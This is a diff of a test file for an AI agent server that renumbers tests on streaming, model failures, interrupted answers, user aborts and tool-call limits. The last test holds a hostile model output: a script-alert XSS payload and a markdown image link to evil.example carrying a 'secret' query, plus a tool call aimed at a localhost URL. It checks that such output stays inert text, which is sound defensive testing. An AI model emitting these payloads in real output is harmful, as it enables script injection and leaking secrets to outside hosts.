@@ -48,7 +48,7 @@ test("a model's words are streamed as they come, with its tools as visible steps
   })
 })
 
-test('a model that does not answer is a 502 with a sentence, nothing is kept and nothing counted', async () => {
+test('27: a model that does not answer is a 502 with a sentence, nothing is kept and nothing counted', async () => {
   const { agent, model, used } = await startWithModel()
   const conversation_id = randomUUID()
   model.next({ status: 401 }, { status: 401 })
@@ -66,7 +66,7 @@ test('a model that does not answer is a 502 with a sentence, nothing is kept and
   expect(await used()).toBe(0)
 })
 
-test('an answer that breaks off ends with an error, what was streamed is kept as interrupted, and does not count', async () => {
+test('27: an answer that breaks off ends with an error, what was streamed is kept as interrupted, and does not count', async () => {
   const { agent, model, used } = await startWithModel()
   const conversation_id = randomUUID()
   model.next({ cutAfter: 2, text: ['Half ', 'an answer', ' and more'] })
@@ -79,7 +79,7 @@ test('an answer that breaks off ends with an error, what was streamed is kept as
   expect(await used()).toBe(0)
 })
 
-test('a person who goes away ends the model call within a second, and what was written is kept', async () => {
+test('38: a person who goes away ends the model call within a second, and what was written is kept', async () => {
   const { agent, model, user, used } = await startWithModel()
   const conversation_id = randomUUID()
   const away = new AbortController()
@@ -158,7 +158,7 @@ test('what no longer fits is told as a summary, and no message falls between the
   for (let n = 1; n <= turns; n += 1) expect(prompt).toContain(`invoice number ${n} for me`)
 })
 
-test('a model that only calls tools is asked to answer at its last step, and is not counted when it does not', async () => {
+test('23: a model that only calls tools is asked to answer at its last step, and is not counted when it does not', async () => {
   const { agent, model, used } = await startWithModel()
   const call = { tool: 'calculator', input: { expression: '1 + 1' } }
   model.next(call, call, call, call, call, { text: ['Two, I am sure.'] })
@@ -178,7 +178,7 @@ test('a model that only calls tools is asked to answer at its last step, and is 
   expect(await used()).toBe(1)
 })
 
-test('a model that calls a hundred tools at once gets eight', async () => {
+test('23: a model that calls a hundred tools at once gets eight', async () => {
   const eager: Protocol = {
     ...chatCompletions,
     events(reply) {
@@ -204,7 +204,7 @@ test('a model that calls a hundred tools at once gets eight', async () => {
   expect(new Set(names).size).toBe(100)
 })
 
-test('what a model writes is passed on as text, and no tool runs that the template does not declare', async () => {
+test('19: what a model writes is passed on as text, and no tool runs that the template does not declare', async () => {
   const { agent, model } = await startWithModel()
   const hostile = '<script>alert(1)</script>![x](https://evil.example/?q=secret)'
   model.next({ tool: 'web_browsing', input: { url: 'http://127.0.0.1/' } }, { text: [hostile] })
